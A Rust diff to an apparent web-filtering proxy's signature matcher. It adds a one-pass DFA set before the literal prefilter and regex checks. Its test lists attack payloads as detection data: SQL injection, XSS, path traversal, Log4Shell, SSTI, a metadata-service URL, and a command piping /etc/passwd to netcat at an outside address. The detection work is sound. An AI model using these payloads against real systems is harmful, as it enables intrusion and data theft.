@@ -1,14 +1,22 @@
-//! Signature matching: one Aho-Corasick pass over a value finds which rules' literals occur,
-//! then only those rules' matchers run: a regex, or a native detector (`crate::detect`) that
-//! parses the value. Everything is compiled once, at configure time.
+//! Signature matching: one pass of a set DFA over a value says which rules' regexes can match
+//! (usually none); then an Aho-Corasick pass finds which rules' literals occur, and only those
+//! rules' matchers run: a regex, or a native detector (`crate::detect`) that parses the value.
+//! Native detectors are not in the set: their literals alone gate them. Everything is compiled
+//! once per policy (the set on [`SignatureSet::prepare`] or first use).
 
+mod literals;
 pub mod packs;
+mod set;
 
-use aho_corasick::{AhoCorasick, AhoCorasickBuilder, AhoCorasickKind, MatchKind};
+use std::sync::OnceLock;
+
+use literals::LiteralScan;
 use regex::bytes::{Regex, RegexBuilder};
+use regex_automata::{PatternID, PatternSet};
 
 use crate::detect::Detect;
 use crate::targets::{Scope, TargetKind};
+use set::{MatchSet, SetPattern};
 
 /// Bounds on compiled regex size, so a hostile custom rule cannot exhaust the proxy's memory.
 const REGEX_SIZE_LIMIT: usize = 4 << 20;
@@ -20,6 +28,8 @@ pub struct CompiledSignature {
     /// Only values of targets with this (lower-case) name, e.g. one header or parameter.
     pub target_name: Option<Vec<u8>>,
     pub matcher: Matcher,
+    /// Its pattern's id in the one-pass set (regex matchers only).
+    set_id: Option<PatternID>,
 }
 
 /// How a signature decides, once its literals were seen.
@@ -51,7 +61,7 @@ pub struct PatternError(pub String);
 
 pub struct SignatureSet {
     signatures: Vec<CompiledSignature>,
-    prefilter: Option<AhoCorasick>,
+    prefilter: Option<LiteralScan>,
     /// For each prefilter literal, the signatures it triggers.
     literal_signatures: Vec<Vec<u16>>,
     /// Signatures without literals: their regex always runs (custom regex rules, rules on
@@ -59,6 +69,15 @@ pub struct SignatureSet {
     unfiltered: Vec<u16>,
     /// The target kinds any of `unfiltered` applies to.
     unfiltered_scope: Scope,
+    /// The target kinds any native detector applies to: there a value the set pass rejects
+    /// still needs the literal walk.
+    native_scope: Scope,
+    /// Every signature's pattern in one DFA. Built on first use or by [`SignatureSet::prepare`],
+    /// so tools that only validate a policy never pay for it; None if the patterns cannot
+    /// form one.
+    set: OnceLock<Option<MatchSet>>,
+    /// The regex patterns (and case-insensitivity) the set is built from, in signature order.
+    set_patterns: Vec<(String, bool)>,
 }
 
 /// A match: which signature, and the matched bytes' range in the value.
@@ -76,20 +95,28 @@ impl SignatureSet {
         let mut literals: Vec<String> = Vec::new();
         let mut literal_signatures: Vec<Vec<u16>> = Vec::new();
         let mut unfiltered = Vec::new();
-        let mut unfiltered_scope = Scope(0);
         let mut signatures = Vec::with_capacity(sources.len());
+        let mut set_patterns: Vec<(String, bool)> = Vec::new();
+        let mut unfiltered_scope = Scope(0);
+        let mut native_scope = Scope(0);
         for (index, src) in sources.into_iter().enumerate() {
-            let matcher = match src.matcher {
-                MatcherSource::Regex(pattern) => Matcher::Regex(
-                    RegexBuilder::new(pattern)
+            let (matcher, set_id) = match src.matcher {
+                MatcherSource::Regex(pattern) => {
+                    let regex = RegexBuilder::new(pattern)
                         .case_insensitive(src.case_insensitive)
                         .unicode(false)
                         .size_limit(REGEX_SIZE_LIMIT)
                         .dfa_size_limit(REGEX_SIZE_LIMIT)
                         .build()
-                        .map_err(|e| (src.rule, PatternError(e.to_string())))?,
-                ),
-                MatcherSource::Native(detect) => Matcher::Native(detect),
+                        .map_err(|e| (src.rule, PatternError(e.to_string())))?;
+                    let id = PatternID::new(set_patterns.len()).ok();
+                    set_patterns.push((pattern.to_owned(), src.case_insensitive));
+                    (Matcher::Regex(regex), id)
+                }
+                MatcherSource::Native(detect) => {
+                    native_scope = Scope(native_scope.0 | src.scope.0);
+                    (Matcher::Native(detect), None)
+                }
             };
             let index = u16::try_from(index)
                 .map_err(|_| (src.rule, PatternError("too many rules".into())))?;
@@ -112,20 +139,14 @@ impl SignatureSet {
                 scope: src.scope,
                 target_name: src.target_name,
                 matcher,
+                set_id,
             });
         }
         let prefilter = if literals.is_empty() {
             None
         } else {
-            Some(
-                AhoCorasickBuilder::new()
-                    .ascii_case_insensitive(true)
-                    .match_kind(MatchKind::Standard)
-                    // A full DFA: one table lookup per byte on the request path; built once.
-                    .kind(Some(AhoCorasickKind::DFA))
-                    .build(&literals)
-                    .map_err(|e| (0, PatternError(e.to_string())))?,
-            )
+            // A full DFA: one table lookup per byte on the request path; built once.
+            Some(LiteralScan::build(&literals).map_err(|e| (0, PatternError(e)))?)
         };
         Ok(SignatureSet {
             signatures,
@@ -133,6 +154,9 @@ impl SignatureSet {
             literal_signatures,
             unfiltered,
             unfiltered_scope,
+            native_scope,
+            set: OnceLock::new(),
+            set_patterns,
         })
     }
 
@@ -142,6 +166,27 @@ impl SignatureSet {
 
     pub fn is_empty(&self) -> bool {
         self.signatures.is_empty()
+    }
+
+    /// Builds the one-pass set now rather than on the first request that needs it.
+    pub fn prepare(&self) {
+        self.set();
+    }
+
+    fn set(&self) -> Option<&MatchSet> {
+        self.set
+            .get_or_init(|| {
+                let patterns: Vec<SetPattern<'_>> = self
+                    .set_patterns
+                    .iter()
+                    .map(|(pattern, case_insensitive)| SetPattern {
+                        pattern,
+                        case_insensitive: *case_insensitive,
+                    })
+                    .collect();
+                MatchSet::build(&patterns)
+            })
+            .as_ref()
     }
 
     /// Runs every applicable signature over one normalised value. `candidates` is scratch
@@ -154,57 +199,94 @@ impl SignatureSet {
         candidates: &mut Vec<u64>,
         mut on_match: impl FnMut(SignatureMatch),
     ) {
+        // One set pass first: on most values no pattern matches at all, and then neither the
+        // literal prefilter nor any regex needs to run.
+        if let Some(set) = self.set() {
+            let native = self.native_scope.contains(kind);
+            let answered = set.matching(value, |found| {
+                if !found.is_empty() || native {
+                    self.run_candidates(kind, name, value, candidates, Some(found), &mut on_match);
+                }
+            });
+            if answered {
+                return;
+            }
+        }
+        self.run_candidates(kind, name, value, candidates, None, &mut on_match);
+    }
+
+    /// The signatures whose literal occurs in `value` and that apply to this target run their
+    /// regex, in signature order; with `found`, only those the set pass says can match.
+    fn run_candidates(
+        &self,
+        kind: TargetKind,
+        name: &[u8],
+        value: &[u8],
+        candidates: &mut Vec<u64>,
+        found: Option<&PatternSet>,
+        on_match: &mut dyn FnMut(SignatureMatch),
+    ) {
         let words = self.signatures.len().div_ceil(64);
         candidates.clear();
         candidates.resize(words, 0);
-        let mut any = false;
-        if let Some(ac) = &self.prefilter {
-            for m in ac.find_overlapping_iter(value) {
-                for &sig in &self.literal_signatures[m.pattern().as_usize()] {
+        if let Some(prefilter) = &self.prefilter {
+            prefilter.for_each(value, |literal| {
+                for &sig in &self.literal_signatures[literal] {
                     candidates[usize::from(sig) / 64] |= 1 << (sig % 64);
-                    any = true;
                 }
-            }
+            });
         }
         // Only where they apply: a path-only rule must not make every body value pay for the
         // candidate walk below.
         if self.unfiltered_scope.contains(kind) {
             for &sig in &self.unfiltered {
-                if self.signatures[usize::from(sig)].scope.contains(kind) {
-                    candidates[usize::from(sig) / 64] |= 1 << (sig % 64);
-                    any = true;
-                }
+                candidates[usize::from(sig) / 64] |= 1 << (sig % 64);
             }
         }
-        if !any {
-            return;
-        }
-        for (w, &bits) in candidates.iter().enumerate() {
-            let mut bits = bits;
-            while bits != 0 {
-                let i = w * 64 + bits.trailing_zeros() as usize;
-                bits &= bits - 1;
-                let sig = &self.signatures[i];
-                if !sig.scope.contains(kind) {
-                    continue;
+        for_each_bit(candidates, |i| {
+            let sig = &self.signatures[i];
+            if !sig.scope.contains(kind) {
+                return;
+            }
+            if let Some(want) = &sig.target_name {
+                if !name.eq_ignore_ascii_case(want) {
+                    return;
                 }
-                if let Some(want) = &sig.target_name {
-                    if !name.eq_ignore_ascii_case(want) {
-                        continue;
+            }
+            let found = match &sig.matcher {
+                Matcher::Regex(regex) => {
+                    let possible =
+                        found.is_none_or(|f| sig.set_id.is_some_and(|p| f.contains(p)));
+                    if !possible {
+                        return;
                     }
+                    regex.find(value).map(|m| (m.start(), m.end()))
                 }
-                let found = match &sig.matcher {
-                    Matcher::Regex(regex) => regex.find(value).map(|m| (m.start(), m.end())),
-                    Matcher::Native(detect) => detect(value),
-                };
-                if let Some((start, end)) = found {
-                    on_match(SignatureMatch {
-                        rule: sig.rule,
-                        start,
-                        end,
-                    });
-                }
+                Matcher::Native(detect) => detect(value),
+            };
+            if let Some((start, end)) = found {
+                on_match(SignatureMatch {
+                    rule: sig.rule,
+                    start,
+                    end,
+                });
             }
+        });
+    }
+
+    /// Heap bytes of the one-pass set (its DFA and the transition cache grown so far).
+    pub fn set_memory_usage(&self) -> usize {
+        self.set().map_or(0, MatchSet::memory_usage)
+    }
+}
+
+/// Calls `f` with the index of every set bit, in increasing order.
+fn for_each_bit(words: &[u64], mut f: impl FnMut(usize)) {
+    for (w, &bits) in words.iter().enumerate() {
+        let mut bits = bits;
+        while bits != 0 {
+            f(w * 64 + bits.trailing_zeros() as usize);
+            bits &= bits - 1;
         }
     }
 }
@@ -235,6 +317,75 @@ mod tests {
         let before = ids.len();
         ids.dedup();
         assert_eq!(before, ids.len(), "rule ids are unique");
+    }
+
+    fn builtin_set() -> SignatureSet {
+        SignatureSet::compile(
+            packs::BUILTIN
+                .iter()
+                .enumerate()
+                .map(|(rule, def)| SignatureSource {
+                    rule,
+                    scope: def.scope,
+                    target_name: None,
+                    literals: def.literals.iter().map(|l| (*l).to_owned()).collect(),
+                    matcher: MatcherSource::Regex(def.pattern),
+                    case_insensitive: true,
+                })
+                .collect(),
+        )
+        .unwrap()
+    }
+
+    #[test]
+    fn one_pass_set_and_one_regex_at_a_time_agree() {
+        let with_set = builtin_set();
+        let mut without_set = builtin_set();
+        with_set.prepare();
+        assert!(with_set.set().is_some(), "the built-in patterns form a set");
+        without_set.set = OnceLock::from(None);
+        let prose = "Lorem ipsum dolor sit amet, or select the best plan; O'Brien & Co. <b>x</b> ";
+        let payloads = [
+            "1' OR '1'='1' -- ",
+            "<img src=x onerror=alert(1)>",
+            "../../etc/passwd",
+            "${jndi:ldap://x/a}",
+            "; cat /etc/passwd | nc 10.0.0.1 4444",
+            "{{7*7}}",
+            "http://169.254.169.254/latest/meta-data/",
+            "UNION SELECT username, password FROM users",
+        ];
+        let mut values: Vec<String> = payloads.iter().map(|p| (*p).to_owned()).collect();
+        for (i, p) in payloads.iter().enumerate() {
+            values.push(format!("{}{p}{}", prose.repeat(i), prose.repeat(3)));
+            values.push(format!("{p} and {}", payloads[(i + 3) % payloads.len()]));
+        }
+        values.push(prose.repeat(40));
+        let kinds = [
+            TargetKind::Path,
+            TargetKind::QueryValue,
+            TargetKind::Header,
+            TargetKind::UserAgent,
+            TargetKind::BodyValue,
+            TargetKind::BodyRaw,
+        ];
+        let mut scratch = Vec::new();
+        let mut set_hits = 0;
+        for value in &values {
+            for kind in kinds {
+                let mut a = Vec::new();
+                let mut b = Vec::new();
+                with_set.scan(kind, b"v", value.as_bytes(), &mut scratch, |m| {
+                    a.push((m.rule, m.start, m.end))
+                });
+                without_set.scan(kind, b"v", value.as_bytes(), &mut scratch, |m| {
+                    b.push((m.rule, m.start, m.end))
+                });
+                assert_eq!(a, b, "{kind:?} {value:?}");
+                set_hits += a.len();
+            }
+        }
+        assert!(set_hits > 50, "the payloads match ({set_hits})");
     }
 
     #[test]
